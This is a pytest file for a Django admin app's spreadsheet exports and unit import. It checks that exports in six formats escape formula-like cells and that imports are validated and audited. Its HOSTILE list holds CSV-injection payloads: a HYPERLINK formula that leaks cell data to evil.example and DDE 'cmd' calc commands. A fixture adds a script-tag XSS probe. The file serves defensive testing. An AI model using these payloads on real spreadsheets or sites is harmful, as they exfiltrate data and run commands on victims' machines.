"""The admin's spreadsheet resources: every export escapes what a spreadsheet would run as a formula,
in every format the admin offers; the unit import writes through the services, audited."""

import csv
import io
import json

import pytest
import tablib
from django.contrib import admin
from django.urls import reverse
from openpyxl import load_workbook

from assessments import removal
from assessments.models import AuditEntry, MemberStats, Rating
from assessments.resources import MemberStatsResource, RatingResource
from organizations.models import Unit
from organizations.resources import UnitResource
from tests import builders

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def dataset(headers, *rows):
    return tablib.Dataset(*rows, headers=headers)


def escaped(value: str) -> str:
    return "'" + value


@pytest.fixture
def hostile(ratings_2015, dakha):
    """A hostile value in every text field of every exported model: unit names, rating texts."""
    dakla = Unit.objects.get(code="DAKHA.DAKLA")
    dakla.name = HOSTILE[0]
    dakla.save()
    cell = Unit.objects.get(code="DAKHA.DAKLA.1A")
    cell.name = HOSTILE[1]
    cell.save()
    builders.rate(
        dakla,
        2015,
        "TSVM",
        note=HOSTILE[1],
        decision_number=HOSTILE[2],
    )
    builders.rate(Unit.objects.get(code="DAKHA.CB01"), 2015, None, reason=HOSTILE[3], note=HOSTILE[4])
    builders.rate(cell, 2015, "HTNV", note=HOSTILE[5], decision_number=HOSTILE[6])
    builders.member_stats(dakla, 2015, members=10, good=10)
    Unit.objects.filter(code="KONTUM.P01").update(name="<script>alert(1)</script>")
    return dakla


def export_formats(model):
    """(index, title) of every export format the admin offers for `model`."""
    formats = admin.site.get_model_admin(model).get_export_formats()
    return [(str(i), f().get_title()) for i, f in enumerate(formats)]


def admin_export(client, model, resource, title):
    index = dict((t, i) for i, t in export_formats(model))[title]
    fields = {f"{resource.__name__.lower()}_{name}": "on" for name in resource().get_export_order()}
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    response = client.post(url, {"format": index, "resource": "0", **fields})
    assert response.status_code == 200, response.content[:2000]
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def cells_of(content: bytes, title: str) -> list[str]:
    """Every cell of an exported file, as the spreadsheet or reader would see it."""
    if title in ("csv", "tsv"):
        text = content.decode("utf-8-sig")
        return [
            cell
            for row in csv.reader(io.StringIO(text), delimiter="," if title == "csv" else "\t")
            for cell in row
        ]
    if title == "xlsx":
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        # Text cells, never formulas.
        assert all(cell.data_type != "f" for cell in cells)
        return [cell.value for cell in cells if cell.value is not None]
    if title == "json":
        return [value for row in json.loads(content) for value in row.values()]
    if title == "html":
        content = content.decode()
    cells = [cell for row in tablib.import_set(content, format=title) for cell in row]
    # tablib reads an ODS number back as a float: 2015 is stored as the number 2015.
    return [int(c) if isinstance(c, float) and c.is_integer() else c for c in cells]


TEXT_FIELDS = {Unit: ["name"], Rating: ["note", "not_rated_reason", "decision_number"], MemberStats: []}


def stored_hostile_values(model) -> list[str]:
    """The text values stored (the services strip white space) that a spreadsheet would run."""
    values = [v for name in TEXT_FIELDS[model] for v in model.objects.values_list(name, flat=True)]
    found = [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert len(found) >= (2 if model is Unit else 5 if model is Rating else 0)
    return found


MODELS = [(Unit, UnitResource), (Rating, RatingResource), (MemberStats, MemberStatsResource)]


def test_the_admin_offers_these_formats():
    for model, _resource in MODELS:
        assert [title for _i, title in export_formats(model)] == ["csv", "xlsx", "tsv", "ods", "json", "html"]


@pytest.mark.parametrize("title", ["csv", "xlsx", "tsv", "ods", "json", "html"])
@pytest.mark.parametrize("model,resource", MODELS, ids=["units", "ratings", "members"])
def test_every_admin_export_escapes_formulas(client, superuser, hostile, model, resource, title):
    client.force_login(superuser)
    content = admin_export(client, model, resource, title)
    if title == "html":
        assert b"<script" not in content  # the HTML export escapes markup
    cells = [str(cell) for cell in cells_of(content, title)]
    for value in stored_hostile_values(model):
        assert escaped(value) in cells, (value, cells)
    # No cell anywhere starts like a formula (there are no negative numbers in these tables).
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert any(cell.startswith("DAKHA") for cell in cells)
    if model is not Unit:  # a year is written plain, never localized like an amount (2.015)
        assert "2015" in cells and "2.015" not in cells


def test_every_field_of_every_resource_is_escaped(hostile):
    """The resources themselves (whatever calls them): every exported value goes through safe_cell."""
    for resource in (UnitResource, RatingResource, MemberStatsResource):
        for row in resource().export():
            for cell in row:
                assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@", "\t", "\r"))), cell


def test_a_harmless_export_is_left_alone(ratings_2015):
    exported = RatingResource().export()
    row = next(r for r in exported.dict if r["unit"] == "DAKHA.DAKLA")
    assert (row["level"], row["committee"], row["year"]) == ("TSVM", "DAKHA", 2015)


# The unit import (the one import the admin keeps) ---------------------------------------------------


def test_units_refer_to_their_parent_by_code(dakha, superuser):
    data = dataset(
        ["code", "name", "tier", "kind", "place_type", "parent", "founded", "dissolved"],
        ["DAKHA.DAKLA", "Đảng bộ xã Đăk La", "base", "grassroots_committee", "commune", "DAKHA", "", ""],
        ["DAKHA.DAKLA.1A", "Chi bộ thôn 1A", "cell", "subordinate_cell", "village", "DAKHA.DAKLA", "", ""],
    )
    result = UnitResource().import_data(data, dry_run=False, user=superuser, file_name="C:\\x\\to-chuc.xlsx")
    assert not result.has_errors() and not result.has_validation_errors()
    cell = Unit.objects.get(code="DAKHA.DAKLA.1A")
    assert cell.parent.code == "DAKHA.DAKLA" and cell.committee == dakha
    entries = AuditEntry.objects.filter(action="unit.create").order_by("pk")
    assert [(e.unit.code, e.channel, e.source, e.user) for e in entries] == [
        ("DAKHA.DAKLA", "import", "to-chuc.xlsx", superuser),
        ("DAKHA.DAKLA.1A", "import", "to-chuc.xlsx", superuser),
    ]
    assert entries[1].changes["parent"] == [None, "DAKHA.DAKLA"]


def test_a_dry_run_writes_nothing(dakha, superuser):
    data = dataset(
        ["code", "name", "tier", "kind", "parent"], ["DAKHA.X", "X", "base", "grassroots_cell", "DAKHA"]
    )
    result = UnitResource().import_data(data, dry_run=True, user=superuser)
    assert not result.has_errors() and not result.has_validation_errors()
    assert not Unit.objects.filter(code="DAKHA.X").exists() and not AuditEntry.objects.exists()


def test_unit_import_validates_kind_against_tier(dakha):
    data = dataset(
        ["code", "name", "tier", "kind", "place_type", "parent", "founded", "dissolved"],
        ["DAKHA.X", "Sai loại hình", "base", "subordinate_cell", "", "DAKHA", "", ""],
    )
    result = UnitResource().import_data(data, dry_run=True)
    assert result.has_validation_errors()


def test_the_unit_export_imports_back_unchanged(hostile, superuser):
    """Escaped names come back as they were typed ("'=x" was written for "=x")."""
    exported = UnitResource().export()
    assert escaped(HOSTILE[0]) in exported["name"]
    result = UnitResource().import_data(exported, dry_run=False, user=superuser)
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    assert Unit.objects.get(code="DAKHA.DAKLA").name == HOSTILE[0]
    assert not AuditEntry.objects.filter(action__startswith="unit.").exists()  # nothing changed


def test_a_unit_renamed_and_dissolved_by_import_is_audited(ratings_2015, superuser):
    data = dataset(
        ["code", "name", "dissolved", "merged_into"],
        ["DAKHA.DAKLA", "Đảng bộ xã Đăk La (cũ)", "2018-12-31", "DAKHA.CB01"],
    )
    result = UnitResource().import_data(data, dry_run=False, user=superuser, file_name="sap-nhap.csv")
    assert not result.has_errors() and not result.has_validation_errors(), result.invalid_rows
    entries = {(e.unit.code, e.action): e for e in AuditEntry.objects.filter(channel="import")}
    assert entries[("DAKHA.DAKLA", "unit.update")].changes == {
        "name": ["Đảng bộ xã Đăk La", "Đảng bộ xã Đăk La (cũ)"]
    }
    assert entries[("DAKHA.DAKLA", "unit.dissolve")].changes == {
        "dissolved": [None, "2018-12-31"],
        "merged_into": [None, "DAKHA.CB01"],
    }
    assert entries[("DAKHA.CB01", "unit.merge")].changes == {"merged_from": [None, "DAKHA.DAKLA"]}
    # Its cell is dissolved with it, and that is in the cell's own history.
    assert entries[("DAKHA.DAKLA.1A", "unit.dissolve")].changes == {"dissolved": [None, "2018-12-31"]}
    assert str(Unit.objects.get(code="DAKHA.DAKLA.1A").dissolved) == "2018-12-31"


def test_exports_of_rows_deleted_meanwhile_are_not_an_error(ratings_2015, superuser):
    removal.delete_ratings(user=superuser, ratings=[ratings_2015[0]], channel="admin")
    assert len(RatingResource().export()) == 3


def test_the_import_preview_diff_has_no_inline_style(ratings_2015, superuser):
    """The site's Content-Security-Policy blocks style attributes: the old → new is marked up plainly."""
    data = dataset(["code", "name"], ["DAKHA.DAKLA", "Xã <b>Đăk La</b> mới"])
    result = UnitResource().import_data(data, dry_run=True, user=superuser)
    (row,) = result.rows
    html = "".join(row.diff)
    assert "<ins>" in html and "<del>" in html and "&lt;b&gt;" in html
    assert "style=" not in html
    assert Unit.objects.get(code="DAKHA.DAKLA").name == "Đảng bộ xã Đăk La"
